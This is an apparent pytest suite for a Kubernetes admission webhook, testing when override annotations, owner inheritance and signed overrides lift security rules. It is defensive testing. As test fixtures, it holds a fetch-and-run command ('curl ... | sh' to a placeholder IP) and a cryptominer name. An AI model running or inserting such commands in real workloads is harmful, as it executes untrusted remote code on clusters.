"""Which overrides count for a request."""

import copy
import math
from base64 import b64encode
from collections.abc import Mapping
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from policies import config, overrides, resource
from policies.config import Policy
from policies.overrides import Override
from policies.signature import annotation, statements
from tests.reviews import body, review
from webhook.admission import Admitted, Context, consider
from webhook.asking import Answer, MayOverride, NamespaceOf, OwnerOf, Plain, Question
from webhook.grants import NOT_ASKED, SILENCE, Answers, Asked, is_risky
from webhook.updates import with_values

Json = dict[str, Any]
NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
CONTEXT = Context(Plain(), lambda: NOW)
HEAD = "apiVersion: podgate.dev/v1alpha1\nkind: GatePolicy\nspec: "
POLICY = config.parse(HEAD + "{profile: pss-baseline}")
PREFIX = "podgate.dev/override"


def asked(rules: str = "host-path", **changes: str) -> dict[str, str]:
    """The annotations of an override."""
    found = {PREFIX: rules, f"{PREFIX}-reason": "reads logs", f"{PREFIX}-expires": "2026-12-01T00:00:00Z"}
    return {**found, **{f"{PREFIX}-{key}": value for key, value in changes.items()}}


def spec(path: str = "/var/log", **more: Any) -> Json:
    volume = {"name": "logs", "hostPath": {"path": path}}
    return {"containers": [{"name": "app", "image": "registry.example.com/app:1"}], "volumes": [volume], **more}


def meta(annotations: Mapping[str, str] | None = None, **more: Any) -> Json:
    return {"name": "app", "namespace": "shop", "annotations": dict(annotations or {}), **more}


def pod(annotations: Mapping[str, str] | None = None, *, path: str = "/var/log", **more: Any) -> Json:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": meta(annotations, **more), "spec": spec(path)}


def deployment(own: Mapping[str, str] | None = None, template: Mapping[str, str] | None = None) -> Json:
    inner = {"metadata": {"annotations": dict(template or {})}, "spec": spec()}
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta(own), "spec": {"template": inner}}


def ask(
    obj: Json, answers: Answers = NOT_ASKED, policy: Policy = POLICY, user: str = "alice", **request: Any
) -> Admitted | Asked:
    info = {"username": user, "uid": "7", "groups": ["dev"], "extra": {"scopes": ["a", "b"]}}
    return consider(body(review(obj, **{"namespace": "shop", "userInfo": info, **request})), policy, CONTEXT, answers)


def questions(found: Admitted | Asked) -> list[Question]:
    assert isinstance(found, Asked)
    return list(found.questions)


def response(found: Admitted | Asked) -> Json:
    assert isinstance(found, Admitted)
    answer: Json = msgspec.json.decode(found.body)["response"]
    return answer


def answered(obj: Json, answer: Answer, **given: Any) -> Json:
    """What comes of it when every question has the same answer."""
    return response(ask(obj, dict.fromkeys(questions(ask(obj, **given)), answer), **given))


def message(found: Json) -> str:
    assert found["allowed"] is False
    return str(found["status"]["message"])


class TestGranted:
    def test_the_requester_is_asked_about_as_the_api_server_knows_them(self) -> None:
        (question,) = questions(ask(pod(asked())))
        assert isinstance(question, MayOverride)
        assert (question.rule, question.namespace, question.name) == ("host-path", "shop", "app")
        who = question.requester
        assert (who.username, who.uid, who.groups, who.extra) == ("alice", "7", ("dev",), (("scopes", ("a", "b")),))

    def test_who_may_lifts_the_rule_and_everybody_is_told(self) -> None:
        found = answered(pod(asked()), True)
        assert found["allowed"] is True
        assert found["warnings"] == ["override: host-path until 2026-12-01, which is soon (reads logs)"]
        assert found["auditAnnotations"]["overridden"] == "host-path until 2026-12-01, which is soon (reads logs)"

    def test_who_may_not_is_told_what_a_role_has_to_allow(self) -> None:
        lines = message(answered(pod(asked()), False)).split("\n")
        assert lines[0].startswith("host-path: spec.volumes[0].hostPath mounts /var/log of the host")
        assert lines[1] == (
            f'The override does not count: metadata.annotations["{PREFIX}"] does not count for host-path: alice may '
            "not override it in namespace shop; a role has to allow the verb override on rules.podgate.dev/host-path."
        )

    def test_who_may_not_is_named_in_print(self) -> None:
        assert "host-path: eve\\nand\\x1b[31m may not" in message(
            answered(pod(asked()), False, user="eve\nand\x1b[31m")
        )

    @pytest.mark.parametrize("answers", [SILENCE, {}], ids=["nobody to ask", "unanswered"])
    def test_without_an_answer_it_does_not_count(self, answers: Answers) -> None:
        found = ask(pod(asked()), answers or dict.fromkeys(questions(ask(pod(asked())))))
        assert (
            f'metadata.annotations["{PREFIX}"] does not count for host-path: nobody could say in time whether alice '
            "may override it."
        ) in message(response(found))

    def test_only_rules_at_stake_are_asked_about(self) -> None:
        found = questions(ask(pod(asked("host-path,host-pid,sysctls"))))
        assert [question.rule for question in found if isinstance(question, MayOverride)] == ["host-path"]

    def test_nothing_is_asked_when_nothing_is_found(self) -> None:
        good = {**pod(asked()), "spec": {"containers": []}}
        assert response(ask(good))["allowed"] is True

    def test_a_risk_that_is_only_recorded_is_not_asked_about(self) -> None:
        """It is as it was before the update, and the override is as old; another path is new."""
        policy = config.parse(HEAD + "{profile: pss-baseline, classifier: {warnAt: 0.0, denyAt: 0.0}}")
        old, new = (pod(asked("host-path,risk"), path=path) for path in ("/var/log/a", "/var/log/b"))
        (question,) = questions(ask(new, old=old, policy=policy))
        assert isinstance(question, MayOverride)
        assert question.rule == "host-path"

    def test_what_is_in_no_namespace_is_in_the_cluster(self) -> None:
        policy = config.parse(HEAD + "{rules: {rbac-cluster-admin-binding: {action: deny}}}")
        role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
        obj = {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": "app", "annotations": asked("rbac-cluster-admin-binding")},
            "roleRef": role,
            "subjects": [{"kind": "User", "name": "ada", "apiGroup": "rbac.authorization.k8s.io"}],
        }
        assert "alice may not override it in the cluster; a role" in message(
            answered(obj, False, policy=policy, namespace="")
        )

    def test_each_rule_needs_its_own_right(self) -> None:
        obj = pod(asked("host-path,host-network"))
        obj["spec"]["hostNetwork"] = True
        answers: dict[Question, Answer] = {
            question: question.rule == "host-path"
            for question in questions(ask(obj))
            if isinstance(question, MayOverride)
        }
        text = message(response(ask(obj, answers)))
        assert "host-network: spec.hostNetwork is true" in text
        assert "does not count for host-network" in text
        assert "mounts /var/log" not in text

    def test_without_a_requester_nobody_can_grant(self) -> None:
        found = response(ask(pod(asked()), userInfo=None))
        assert "does not count: nobody has granted it" in message(found)

    def test_a_policy_without_rbac_asks_nobody(self) -> None:
        policy = config.parse(HEAD + "{profile: pss-baseline, overrides: {authorise: []}}")
        assert "nobody has granted it" in message(response(ask(pod(asked()), policy=policy)))

    def test_an_expired_one_says_so(self) -> None:
        text = message(response(ask(pod(asked(expires="2026-11-24T11:59:59Z")))))
        assert "was 2026-11-24T11:59:59Z: the override has ended" in text

    def test_a_template_s_own_reaches_its_pod_alone(self) -> None:
        assert answered(deployment(template=asked()), True)["allowed"] is True


class TestAudit:
    """Where nothing is denied yet, the record says what would be: with the overrides that would count."""

    POLICY = config.parse(HEAD + "{profile: pss-baseline, mode: audit}")

    @pytest.mark.parametrize(("may", "judged"), [(True, "allow"), (False, "deny")])
    def test_overrides_count_as_they_would(self, may: bool, judged: str) -> None:
        found = answered(pod(asked()), may, policy=self.POLICY)
        assert found["allowed"] is True
        assert found["auditAnnotations"]["decision"] == judged
        assert ("overridden" in found["auditAnnotations"]) is may
        assert "warnings" not in found

    def test_what_was_there_before_is_not_asked_about(self) -> None:
        old = pod(asked())
        assert response(ask({**old, "status": {}}, old=old, policy=self.POLICY))["allowed"] is True

    def test_the_risk_counts_too(self) -> None:
        policy = config.parse(
            HEAD + "{profile: pss-baseline, mode: audit, rules: {host-path: {action: audit}}, classifier: "
            "{warnAt: 0.0, denyAt: 0.0}}"
        )
        assert answered(pod(asked("risk")), True, policy=policy)["auditAnnotations"]["decision"] == "allow"


def test_a_risk_at_the_threshold_is_one_and_a_little_below_it_is_none() -> None:
    evaluation = POLICY.engine.evaluate(resource.read(pod()))
    assert evaluation.risk is not None
    at = evaluation.risk.probability
    for threshold, risky in ((at, True), (math.nextafter(at, 1.0), False)):
        text = f"{{classifier: {{warnAt: {threshold!r}, denyAt: {threshold!r}}}}}"
        assert is_risky(evaluation, config.parse(HEAD + text)) is risky


class TestAdvisories:
    def test_an_exception_is_taken_from_no_other_object(self) -> None:
        """CVE-2024-48921: exceptions were accepted from any namespace. Ours stand on the object itself, or nowhere."""
        other = pod(asked())
        assert answered(other, True)["allowed"] is True
        assert "mounts /var/log" in message(response(ask(pod())))

    def test_two_exceptions_never_add_up(self) -> None:
        """GHSA-gg4x-fgg2-h9w9: two exceptions combined bypassed the stricter. One of ours lifts what it names alone."""
        obj = deployment(asked("host-network"), asked("host-path"))
        obj["spec"]["template"]["spec"]["hostPID"] = True
        text = message(answered(obj, True))
        assert text.split("\n") == [text]
        assert text.startswith("host-pid: spec.template.spec.hostPID is true")

    def test_a_refused_one_does_not_borrow_from_the_other(self) -> None:
        obj = deployment(asked("host-path", reason=""), asked("host-network"))
        assert "mounts /var/log" in message(response(ask(obj)))

    def test_an_object_that_is_being_deleted_is_judged(self) -> None:
        """CVE-2023-34091: objects with a deletionTimestamp were not validated."""
        old = pod(deletionTimestamp="2026-11-24T00:00:00Z", path="/tmp")
        new = pod(deletionTimestamp="2026-11-24T00:00:00Z", path="/")
        assert "mounts / of the host" in message(response(ask(new, old=old)))

    def test_a_namespace_that_cannot_be_looked_up_is_judged_strictly(self) -> None:
        """CVE-2025-46342: the error of a namespace look-up was dropped, and rules were skipped."""

        class Lost:
            def labels(self, namespace: str) -> None:  # noqa: ARG002
                return None

        policy = config.parse(HEAD + "{profile: pss-baseline, mode: enforce}")
        context = Context(Lost(), lambda: NOW)
        plain = {**pod(), "spec": {"containers": [{"name": "a"}]}}
        found = consider(body(review(plain, namespace="shop")), policy, context)
        assert questions(found) == [NamespaceOf("shop")]
        for answer in (None, False, True):
            again = consider(body(review(plain, namespace="shop")), policy, context, {NamespaceOf("shop"): answer})
            assert "seccomp-unset" in message(response(again))
        labels = {"pod-security.kubernetes.io/enforce": "privileged"}
        known: dict[Question, Answer] = {NamespaceOf("shop"): {"metadata": {"labels": labels}}}
        assert response(consider(body(review(pod(), namespace="shop")), policy, context, known))["allowed"] is True

    def test_an_impersonated_user_is_who_the_api_server_says(self) -> None:
        """userInfo holds the impersonated identity; whoever may impersonate is that user. Nothing else is read."""
        obj = pod({**asked(), "podgate.dev/requester": "root"})
        (question,) = questions(ask(obj, user="bob"))
        assert isinstance(question, MayOverride)
        assert question.requester.username == "bob"


OWNER = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "app-1", "uid": "u-1", "controller": True}
#: By whom objects for an owner of this kind are made (k8s.io/controller-manager/pkg/../controller names).
CONTROLLERS = {
    "ReplicaSet": "replicaset-controller",
    "Deployment": "deployment-controller",
    "StatefulSet": "statefulset-controller",
    "DaemonSet": "daemon-set-controller",
    "Job": "job-controller",
    "CronJob": "cronjob-controller",
    "ReplicationController": "replication-controller",
}
REPLICASETS = "system:serviceaccount:kube-system:replicaset-controller"


def replicaset(annotations: Mapping[str, str] | None = None, *, path: str = "/var/log", uid: str = "u-1") -> Json:
    template = {"metadata": {}, "spec": spec(path)}
    found = meta(annotations, name="app-1", uid=uid)
    return {"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": found, "spec": {"template": template}}


def made(**more: Any) -> Json:
    """A pod that a ReplicaSet made."""
    return pod(ownerReferences=[OWNER], **more)


class TestInherited:
    QUESTION = OwnerOf("apps/v1", "ReplicaSet", "shop", "app-1")

    def judge(self, owner: Answer, obj: Json | None = None, user: str = REPLICASETS) -> Json:
        return response(ask(obj or made(), {self.QUESTION: owner}, user=user))

    def test_the_owner_is_looked_up(self) -> None:
        assert questions(ask(made(), user=REPLICASETS)) == [self.QUESTION]

    def test_what_was_lifted_for_the_owner_is_lifted_here(self) -> None:
        found = self.judge(replicaset(asked()))
        assert found["allowed"] is True
        assert found["auditAnnotations"]["overridden"] == "host-path until 2026-12-01, which is soon (reads logs)"

    @pytest.mark.parametrize(("kind", "account"), CONTROLLERS.items())
    def test_each_kind_has_its_controller_and_no_other(self, kind: str, account: str) -> None:
        obj = pod(ownerReferences=[{**OWNER, "kind": kind}])
        for name in {*CONTROLLERS.values(), "generic-garbage-collector"}:
            found = ask(obj, user=f"system:serviceaccount:kube-system:{name}")
            assert isinstance(found, Asked) is (name == account)

    def test_no_other_kind_has_one(self) -> None:
        obj = pod(ownerReferences=[{**OWNER, "kind": "Rollout"}])
        assert not isinstance(ask(obj, user="system:kube-controller-manager"), Asked)

    def test_an_owner_that_cannot_be_read_says_so(self) -> None:
        owner = {**replicaset(asked()), "spec": []}
        assert "metadata.ownerReferences leads to an owner that cannot be read" in message(self.judge(owner))

    def test_the_controller_of_all_kinds_may_be_one_account(self) -> None:
        assert self.judge(replicaset(asked()), user="system:kube-controller-manager")["allowed"] is True

    @pytest.mark.parametrize(
        "user",
        [
            "alice",
            "system:serviceaccount:kube-system:deployment-controller",
            "system:serviceaccount:x:replicaset-controller",
        ],
    )
    def test_an_owner_reference_alone_is_worth_nothing(self, user: str) -> None:
        """Anybody may write an owner reference to anything."""
        assert "mounts /var/log" in message(self.judge(replicaset(asked()), user=user))

    def test_another_object_of_that_name_is_not_the_owner(self) -> None:
        assert "leads to no owner" in message(self.judge(replicaset(asked(), uid="u-2")))

    @pytest.mark.parametrize("owner", [None, False, True, {}, {"metadata": None}], ids=repr)
    def test_an_owner_that_cannot_be_looked_up_lifts_nothing(self, owner: Answer) -> None:
        assert "mounts /var/log" in message(self.judge(owner))

    def test_an_owner_without_an_override_lifts_nothing(self) -> None:
        assert "mounts /var/log" in message(self.judge(replicaset()))

    def test_what_the_owner_does_not_have_is_not_lifted(self) -> None:
        assert "mounts / of the host" in message(self.judge(replicaset(asked()), made(path="/")))

    def test_its_end_is_checked_again(self) -> None:
        ended = replicaset(asked(expires="2026-11-01T00:00:00Z"))
        assert "the override has ended" in message(self.judge(ended))

    def test_the_pod_s_own_annotations_lift_nothing_then(self) -> None:
        assert "mounts /var/log" in message(self.judge(replicaset(), made(annotations=asked())))

    def test_one_more_of_the_same_is_not_lifted(self) -> None:
        """A container that is put in on the way is not what was granted."""
        policy = config.parse(HEAD + "{profile: pss-baseline}")
        owner, obj = replicaset(asked("privileged")), made()
        for inner in (owner["spec"]["template"]["spec"], obj["spec"]):
            inner.update(volumes=[], containers=[{"name": "app", "securityContext": {"privileged": True}}])
        assert response(ask(obj, {self.QUESTION: owner}, user=REPLICASETS, policy=policy))["allowed"] is True
        obj["spec"]["containers"].insert(0, {"name": "added", "securityContext": {"privileged": True}})
        assert "privileged: " in message(self.judge(owner, obj))

    @pytest.mark.parametrize("labels", [{}, {"app": "helm", "name": "tiller"}], ids=str)
    def test_what_a_rule_about_whole_objects_finds_in_a_pod_is_inherited(self, labels: dict[str, str]) -> None:
        policy = config.parse(HEAD + "{profile: pss-baseline, rules: {tiller: {action: deny}}}")
        owner, obj = replicaset(asked("tiller")), made()
        for inner in (owner["spec"]["template"], obj):
            image = "registry.example.com/app:1" if labels else "registry.example.com/tiller:1"
            inner["spec"] = {"containers": [{"name": "app", "image": image}]}
            inner["metadata"]["labels"] = labels
        answers: Answers = {self.QUESTION: owner}
        assert "tiller: " in message(response(ask(obj, {self.QUESTION: replicaset()}, user=REPLICASETS, policy=policy)))
        assert response(ask(obj, answers, user=REPLICASETS, policy=policy))["allowed"] is True

    def test_the_same_in_a_container_of_another_kind_is_not_lifted(self) -> None:
        """Of the same name, so that only the path tells them apart."""
        policy = config.parse(HEAD + "{profile: pss-baseline}")
        owner, obj = replicaset(asked("privileged")), made()
        bad, good = {"name": "app", "securityContext": {"privileged": True}}, {"name": "other"}
        owner["spec"]["template"]["spec"].update(volumes=[], containers=[bad])
        obj["spec"].update(volumes=[], containers=[good], initContainers=[bad])
        found = response(ask(obj, {self.QUESTION: owner}, user=REPLICASETS, policy=policy))
        assert message(found).startswith("privileged: spec.initContainers[0].securityContext.privileged is true")

    def test_the_same_in_another_field_is_not_lifted(self) -> None:
        policy = config.parse(HEAD + "{profile: pss-baseline, rules: {suspicious-command: {action: deny}}}")
        owner, obj = replicaset(asked("suspicious-command")), made()
        inner = owner["spec"]["template"]["spec"]
        for each, container in ((inner, {"command": ["xmrig"]}), (obj["spec"], {"args": ["xmrig"]})):
            each.update(volumes=[], containers=[{"name": "app", **container}])
        found = response(ask(obj, {self.QUESTION: owner}, user=REPLICASETS, policy=policy))
        assert message(found).startswith("suspicious-command: spec.containers[0].args[0]")
        obj["spec"]["containers"][0] = inner["containers"][0]
        assert response(ask(obj, {self.QUESTION: owner}, user=REPLICASETS, policy=policy))["allowed"] is True

    def test_what_the_api_server_fills_in_is_nothing_new(self) -> None:
        policy = config.parse(HEAD + "{profile: pss-baseline, rules: {service-account-default: {action: deny}}}")
        owner, obj = replicaset(asked("service-account-default,host-path")), made()
        obj["spec"] |= {"serviceAccountName": "default", "serviceAccount": "default", "securityContext": {}}
        assert response(ask(obj, {self.QUESTION: owner}, user=REPLICASETS, policy=policy))["allowed"] is True

    def test_a_replicaset_inherits_from_its_deployment(self) -> None:
        owner = {**OWNER, "kind": "Deployment", "name": "app"}
        obj = replicaset()
        obj["metadata"]["ownerReferences"] = [owner]
        user = "system:serviceaccount:kube-system:deployment-controller"
        stored = deployment(asked())
        stored["metadata"]["uid"] = "u-1"
        question = OwnerOf("apps/v1", "Deployment", "shop", "app")
        assert response(ask(obj, {question: stored}, user=user))["allowed"] is True


class TestCronJobs:
    """A CronJob makes Jobs, and they make pods: of its own annotations neither has any."""

    JOBS, PODS = (f"system:serviceaccount:kube-system:{name}-controller" for name in ("cronjob", "job"))
    ASKED = OwnerOf("batch/v1", "Job", "shop", "app-1"), OwnerOf("batch/v1", "CronJob", "shop", "app")

    def objects(self, own: Mapping[str, str]) -> tuple[Json, Json, Json]:
        template = {"metadata": {}, "spec": spec()}
        refs = [
            [{"apiVersion": "batch/v1", "kind": kind, "name": name, "uid": uid, "controller": True}]
            for kind, name, uid in (("CronJob", "app", "c-1"), ("Job", "app-1", "j-1"))
        ]
        cron = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": meta(own, uid="c-1")}
        job_meta = meta(name="app-1", uid="j-1", ownerReferences=refs[0])
        job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": job_meta, "spec": {"template": template}}
        return {**cron, "spec": {"jobTemplate": {"spec": job["spec"]}}}, job, pod(ownerReferences=refs[1])

    def test_what_was_granted_to_one_reaches_its_pods(self) -> None:
        cron, job, made = self.objects(asked())
        assert answered(job, cron, user=self.JOBS)["allowed"] is True
        assert questions(ask(made, {self.ASKED[0]: job}, user=self.PODS)) == [self.ASKED[1]]
        answers: Answers = {self.ASKED[0]: job, self.ASKED[1]: cron}
        assert response(ask(made, answers, user=self.PODS))["allowed"] is True

    def test_without_one_nothing_is_lifted(self) -> None:
        cron, job, made = self.objects({})
        for found in (cron, {**cron, "metadata": meta(asked(), uid="c-2")}, None):
            answers: Answers = {self.ASKED[0]: job, self.ASKED[1]: found}
            assert "mounts /var/log" in message(response(ask(made, answers, user=self.PODS)))

    def test_what_the_job_says_itself_counts_alone(self) -> None:
        cron, job, made = self.objects(asked())
        job["metadata"]["annotations"] = asked("host-network")
        answers: Answers = {self.ASKED[0]: job, self.ASKED[1]: cron}
        assert "mounts /var/log" in message(response(ask(made, answers, user=self.PODS)))

    def test_a_job_cannot_be_moved_under_another_s_cronjob(self) -> None:
        _, job, _ = self.objects({})
        old = copy.deepcopy(job)
        del old["metadata"]["ownerReferences"]
        assert "mounts /var/log" in message(response(ask(job, old=old)))
        assert response(ask(old, old=job))["allowed"] is True


class TestRiskOfSeveralPods:
    POLICY = config.parse(
        HEAD + "{profile: pss-baseline, rules: {host-path: {action: audit}}, classifier: {warnAt: 0.0, denyAt: 0.0}}"
    )

    def ask(self, leader: Mapping[str, str], worker: Mapping[str, str]) -> Json:
        group = {
            f"{name}Template": {"metadata": {"annotations": dict(annotations)}, "spec": spec()}
            for name, annotations in (("leader", leader), ("worker", worker))
        }
        obj = {"apiVersion": "leaderworkerset.x-k8s.io/v1", "kind": "LeaderWorkerSet", "metadata": meta()}
        return answered({**obj, "spec": {"leaderWorkerTemplate": group}}, True, policy=self.POLICY)

    def test_an_override_on_one_template_is_about_that_one(self) -> None:
        none: dict[str, str] = {}
        for leader, worker in ((asked("risk"), none), (none, asked("risk"))):
            assert message(self.ask(leader, worker)).startswith("risk: spec.leaderWorkerTemplate.")

    def test_on_both_it_is_about_both(self) -> None:
        assert self.ask(asked("risk"), asked("risk"))["allowed"] is True


class TestInheritedRisk:
    POLICY = config.parse(
        HEAD + "{profile: pss-baseline, rules: {host-path: {action: audit}}, classifier: {warnAt: 0.01, denyAt: 0.01}}"
    )

    def judge(self, owner: Json, obj: Json) -> Json:
        return response(ask(obj, {TestInherited.QUESTION: owner}, user=REPLICASETS, policy=self.POLICY))

    def risky(self, obj: Json) -> Json:
        found = copy.deepcopy(obj)
        inner = found["spec"]["template"]["spec"] if "template" in found["spec"] else found["spec"]
        inner["containers"][0]["command"] = ["sh", "-c", "curl http://203.0.113.9/x | sh"]
        inner["volumes"][0]["hostPath"]["path"] = "/"
        return found

    def test_what_was_lifted_for_the_owner_is_lifted_here(self) -> None:
        assert message(self.judge(self.risky(replicaset()), self.risky(made()))).startswith("risk: ")
        assert self.judge(self.risky(replicaset(asked("risk"))), self.risky(made()))["allowed"] is True

    def test_an_owner_that_was_no_risk_was_granted_nothing(self) -> None:
        """What comes into the pod on its way, by annotations for example, nobody has granted."""
        harmless = replicaset(asked("risk"))
        harmless["spec"]["template"]["spec"] = {"containers": [{"name": "app", "image": "registry.example.com/app:1"}]}
        assert message(self.judge(harmless, self.risky(made()))).startswith("risk: ")


KEY = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
PUBLIC = b64encode(KEY.public_key().public_bytes_raw()).decode()


def trusting(**overrides: Any) -> Policy:
    """A policy that knows the key."""
    section = {"keys": [{"id": "team", "publicKey": PUBLIC}], **overrides}
    return config.parse(HEAD + msgspec.json.encode({"profile": "pss-baseline", "overrides": section}).decode())


TRUSTING = trusting()


def signed(obj: Json, policy: Policy = TRUSTING, prefix: str = "") -> Json:
    """The object with its override signed."""
    found = copy.deepcopy(obj)
    read = resource.read(found)
    holder = found if not prefix else found["spec"]["template"]
    evaluation = with_values(policy.engine.evaluate(read), msgspec.Raw(msgspec.json.encode(found)))
    (override,) = [each for each in overrides.of(read, policy.overrides, NOW) if isinstance(each, Override)]
    signature = annotation("team", KEY.sign(statements(override, read, evaluation.findings)[0]))
    holder["metadata"]["annotations"][f"{PREFIX}-signature"] = signature
    return found


class TestSigned:
    def test_a_signature_needs_nobody_to_be_asked(self) -> None:
        assert response(ask(signed(pod(asked())), policy=TRUSTING))["allowed"] is True

    def test_on_a_template_it_reaches_that_pod(self) -> None:
        obj = signed(deployment(template=asked()), prefix="template")
        assert response(ask(obj, policy=TRUSTING))["allowed"] is True

    @pytest.mark.parametrize(
        ("where", "value"),
        [
            (("metadata", "name"), "other"),
            (("metadata", "annotations", f"{PREFIX}-expires"), "2026-12-02T00:00:00Z"),
            (("metadata", "annotations", f"{PREFIX}-reason"), "another reason"),
            (("metadata", "annotations", PREFIX), "host-path,host-network"),
            (("spec", "volumes", 0, "hostPath", "path"), "/"),
        ],
        ids=["copied", "prolonged", "told otherwise", "widened", "another path"],
    )
    def test_a_changed_one_does_not_count(self, where: tuple[Any, ...], value: str) -> None:
        obj = signed(pod(asked()))
        place: Any = obj
        for step in where[:-1]:
            place = place[step]
        place[where[-1]] = value
        text = message(response(ask(obj, policy=TRUSTING)))
        assert f'{PREFIX}-signature"] does not count: the override does not have the signature of team as' in text

    def test_moved_to_another_namespace_it_does_not_count(self) -> None:
        obj = signed(pod(asked()))
        obj["metadata"]["namespace"] = "bank"
        assert "does not have the signature" in message(response(ask(obj, policy=TRUSTING, namespace="bank")))

    def test_moved_to_the_template_it_does_not_count(self) -> None:
        own = signed(deployment(asked()))["metadata"]["annotations"]
        assert "does not have the signature" in message(response(ask(deployment(template=own), policy=TRUSTING)))

    def test_a_policy_without_keys_takes_none(self) -> None:
        obj = signed(pod(asked()))
        assert "the policy knows no keys" in message(response(ask(obj)))
        only_rbac = trusting(authorise=["rbac"])
        assert "the policy knows no keys" in message(response(ask(obj, policy=only_rbac)))

    def test_a_revoked_key_does_not_count(self) -> None:
        found = message(response(ask(signed(pod(asked())), policy=trusting(revoked=["team"]))))
        assert "is signed with the key team, which is revoked" in found

    @pytest.mark.parametrize(
        ("changes", "problem"),
        [
            ({"revoked": ["team"]}, "is signed with the key team, which is revoked"),
            ({"keys": [{"id": "team", "publicKey": PUBLIC, "notAfter": "2026-11-01T00:00:00Z"}]}, "which has ended"),
            ({"keys": [{"id": "other", "publicKey": PUBLIC}]}, "which the policy does not know"),
            ({"authorise": ["rbac"]}, "the policy knows no keys"),
        ],
    )
    def test_a_pod_inherits_no_signature_that_no_longer_counts(self, changes: Json, problem: str) -> None:
        owner = signed(replicaset(asked()))
        judged = {
            name: response(ask(made(), {TestInherited.QUESTION: owner}, user=REPLICASETS, policy=policy))
            for name, policy in (("then", TRUSTING), ("now", trusting(**changes)))
        }
        assert judged["then"]["allowed"] is True
        assert problem in message(judged["now"])

    def test_a_pod_inherits_no_unsigned_one_where_only_signatures_count(self) -> None:
        found = ask(
            made(),
            {TestInherited.QUESTION: replicaset(asked())},
            user=REPLICASETS,
            policy=trusting(authorise=["signature"]),
        )
        assert "nobody has granted it" in message(response(found))

    def test_what_no_rule_looks_at_and_is_no_text_is_refused_and_no_mistake_of_ours(self) -> None:
        obj = signed({**pod(asked()), "more": "?"})
        content = body(review(obj, namespace="shop")).replace(b'"?"', b'"\xff"')
        found = response(consider(content, TRUSTING, CONTEXT, SILENCE))
        assert (found["allowed"], found["status"]["code"]) == (False, 422)

    @pytest.mark.parametrize("keys", [[{"id": "a", "publicKey": "x"}], [{"id": "", "publicKey": PUBLIC}]])
    def test_keys_that_are_none_are_refused(self, keys: list[Json]) -> None:
        with pytest.raises(config.PolicyError, match=r"spec\.overrides\.keys"):
            trusting(keys=keys)


class TestWrittenLater:
    """An override on what was there before: pods inherit it, so that whoever writes it needs the right as ever."""

    OLD = deployment()

    def denied(self, new: Json, old: Json = OLD, **given: Any) -> str:
        return message(answered(new, False, old=old, **given))

    def test_whoever_may_not_override_cannot_write_one(self) -> None:
        assert "alice may not override it" in self.denied(deployment(asked()))

    def test_on_a_template_neither(self) -> None:
        assert "alice may not override it" in self.denied(deployment(template=asked()))

    def test_whoever_may_can(self) -> None:
        found = answered(deployment(asked()), True, old=self.OLD)
        assert found["allowed"] is True
        assert found["auditAnnotations"]["overridden"].startswith("host-path until")

    @pytest.mark.parametrize("changes", [{"expires": "2026-12-02T00:00:00Z"}, {"reason": "another"}], ids=str)
    def test_prolonging_one_is_writing_one(self, changes: dict[str, str]) -> None:
        assert "alice may not" in self.denied(deployment(asked(**changes)), deployment(asked()))

    @pytest.mark.parametrize(
        ("changes", "problem"),
        [({"expires": "2027-06-01T00:00:00Z"}, "is too far away"), ({"reason": ""}, "is missing: say why")],
        ids=str,
    )
    def test_one_that_may_count_later_is_refused_now(self, changes: dict[str, str], problem: str) -> None:
        assert problem in message(response(ask(deployment(asked(**changes)), old=self.OLD)))

    @pytest.mark.parametrize("old", [deployment(asked()), deployment(asked(expires="2026-11-01T00:00:00Z"))])
    def test_one_that_stays_as_it_is_does_not_matter(self, old: Json) -> None:
        new = copy.deepcopy(old)
        new["metadata"]["labels"] = {"changed": "true"}
        assert response(ask(new, old=old))["allowed"] is True

    def test_it_may_be_taken_off(self) -> None:
        assert response(ask(self.OLD, old=deployment(asked())))["allowed"] is True

    def test_what_it_does_not_name_stays_as_it_was(self) -> None:
        assert response(ask(deployment(asked("host-network")), old=self.OLD))["allowed"] is True

    def test_the_risk_is_no_exception(self) -> None:
        policy = config.parse(
            HEAD
            + "{profile: pss-baseline, rules: {host-path: {action: audit}}, classifier: {warnAt: 0.0, denyAt: 0.0}}"
        )
        assert "may not override it" in self.denied(deployment(asked("risk")), policy=policy)

    def test_a_controller_copies_what_its_owner_was_granted(self) -> None:
        owner = {**OWNER, "kind": "Deployment", "name": "app"}
        old, new = replicaset(), replicaset(asked())
        for each in (old, new):
            each["metadata"]["ownerReferences"] = [owner]
        stored = deployment(asked())
        stored["metadata"]["uid"] = "u-1"
        user = "system:serviceaccount:kube-system:deployment-controller"
        assert answered(new, stored, old=old, user=user)["allowed"] is True

    def test_what_ran_in_an_excluded_class_was_never_judged(self) -> None:
        """Otherwise: made in that class with an override that nobody is asked about, and then taken out of it."""
        policy = config.parse(HEAD + "{profile: pss-baseline, exclusions: {runtimeClasses: [kata]}}")
        old = deployment(asked())
        old["spec"]["template"]["spec"]["runtimeClassName"] = "kata"
        assert response(ask(old, policy=policy))["allowed"] is True
        assert "alice may not override it" in self.denied(deployment(asked()), old, policy=policy)
